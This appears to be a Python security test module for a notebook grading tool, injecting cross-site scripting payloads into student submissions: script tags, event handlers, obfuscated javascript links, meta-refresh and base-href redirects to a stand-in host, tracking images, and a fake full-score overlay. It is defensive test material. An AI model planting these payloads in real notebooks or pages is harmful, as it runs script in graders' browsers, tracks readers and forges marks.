"""Markup in output: script in the instructor's formgrader and in the feedback."""

from tests.attacks.catalogue import HARMS, NOTHING, attack

SCRIPT = "<script>/*$MARK*/alert(1)</script>"
VECTORS = """
    VECTORS = [
        "<script>/*$MARK*/alert(1)</script>",
        "<img src=x data-m=$MARK onerror='alert(1)/*$MARK*/'>",
        "<svg data-m=$MARK onload='alert(1)/*$MARK*/'><animate onbegin='alert(1)/*$MARK*/'></svg>",
        "<a href='javascript:alert(1)//$MARK'>see</a>",
        "<a href=' java&#115;cript&colon;alert(1)//$MARK'>see</a>",
        "<iframe srcdoc='&lt;script>alert(1)//$MARK&lt;/script>'></iframe>",
        "<form action='//canary.example/$MARK'><button>Save</button></form>",
        "<math><mtext><img src=x onerror='alert(1)/*$MARK*/'></mtext></math>",
        "<details open ontoggle='alert(1)/*$MARK*/'>x</details>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)//$MARK>'></noscript>",
        "<style>/*$MARK*/.panel{display:none}</style>",
        "<div style='position:fixed;inset:0;background:url(//canary.example/$MARK)'>11/11</div>",
        "<object data='data:text/html,<script>//$MARK</script>'></object>",
        "<meta http-equiv=refresh content='0;url=//canary.example/$MARK'>",
        "<base href='//canary.example/$MARK'>",
    ]
"""


@attack("Script in rich outputs: HTML, SVG, JavaScript, Markdown, LaTeX.", plain=HARMS, alone=False)
def rich_outputs(sub):
    sub.last_cell(
        VECTORS
        + """
    from IPython.display import display
    for vector in VECTORS:
        for kind in ("text/html", "image/svg+xml", "text/markdown", "text/latex"):
            display({kind: vector, "text/plain": "x"}, raw=True)
    display({"application/javascript": "/*$MARK*/alert(1)", "text/plain": "x"}, raw=True)
    display({"application/vnd.jupyter.widget-view+json": {"model_id": "</script>" + VECTORS[0]}},
            raw=True)
    """
    )


@attack("Script in plain text: stdout, stderr, tracebacks, colours, names of classes.",
        plain=NOTHING)  # fmt: skip
def text_outputs(sub):
    sub.last_cell(
        VECTORS
        + """
    import sys
    for vector in VECTORS:
        print(vector)
        print("\\x1b[31m" + vector + "\\x1b[38;5;1\\"><img src=x onerror=alert(1)//$MARK>m")
        print(vector, file=sys.stderr)
    class Odd:
        def __repr__(self):
            return VECTORS[0]
    display(Odd())
    raise type("<img src=x onerror=alert(1) title=$MARK>", (Exception,), {})(VECTORS[0])
    """
    )


@attack("Script in text cells: HTML in Markdown, links, the answer that is marked by hand.",
        plain=HARMS, alone=False)  # fmt: skip
def text_cells(sub):
    from string import Template

    names = {}
    exec(VECTORS.strip(), names)
    text = "\n\n".join(names["VECTORS"])
    text += '\n\n[see](javascript:alert(1)//$MARK) ![x](x" onerror="alert(1)//$MARK)'
    text += "\n\n$$\\href{javascript:alert(1)//$MARK}{x}$$ <$MARK onclick=alert(1)//$MARK>"
    text = Template(text).safe_substitute(sub.words)
    sub.cell("reading")["source"] = text
    sub.last_cell("x")["source"] = "x = 1"
    sub.own_cell(text, kind="markdown", after="title")


@attack("Script in the data of a picture, and in metadata that a page is made of.", plain=HARMS,
        alone=False)  # fmt: skip
def attributes_of_pictures(sub):
    sub.last_cell("""
        from IPython.display import display
        bad = 'x" onerror="alert(1)/*$MARK*/" title="$MARK'
        for kind in ("image/png", "image/jpeg", "image/gif", "image/webp"):
            display({kind: bad, "text/plain": "x"}, raw=True)
            display({kind: "AAAA", "text/plain": bad}, raw=True,
                    metadata={kind: {"width": bad, "height": bad, "alt": bad, "unconfined": True}})
        display({"application/pdf": bad, "video/mp4": bad}, raw=True)
    """)
    sub.notebook["metadata"] |= {
        "title": sub.code("</title>" + SCRIPT),
        "authors": [{"name": sub.code(SCRIPT)}],
        "language_info": {
            "name": sub.code('x"><img src=x onerror=alert(1)//$MARK>'),
            "pygments_lexer": sub.code('"><script>/*$MARK*/</script>'),
        },
        "widgets": {
            "application/vnd.jupyter.widget-state+json": {
                "state": {"x": sub.code("</script>" + SCRIPT)}, "version_major": 2,
                "version_minor": 0,
            }
        },
    }  # fmt: skip
    own = sub.own_cell("x = 2", before="double")
    own["metadata"] = {"tags": [sub.code('x" onclick="alert(1)//$MARK')], "name": "$MARK"}
    own["id"] = "a-b"


@attack("Have something fetched: a picture from a server tells who reads the feedback, and when.",
        plain=HARMS, alone=False)  # fmt: skip
def pictures_from_outside(sub):
    places = "http://canary.example/$MARK", "//canary.example/$MARK"
    for place in places:
        sub.own_cell(
            f"![x]({place}.png) <img srcset='{place} 2x'> <video poster='{place}'></video>"
            f" <link rel=stylesheet href='{place}.css'> <input type=image src='{place}'>",
            kind="markdown",
            after="title",
        )
    sub.last_cell("""
        from IPython.display import HTML, Image, display
        display(HTML("<img src='http://canary.example/$MARK.png'>"))
        display(Image(url="http://canary.example/$MARK.png"))
    """)


@attack("Draw full marks into the page, over the real ones.", plain=NOTHING)
def marks_drawn_over(sub):
    sub.own_cell(
        "<h2>walls (Score: 11.0 / 11.0)</h2><div class='panel panel-default $MARK'>"
        "<span class='pull-right'>Score: 11.0 / 11.0</span></div>",
        kind="markdown",
        after="title",
    )
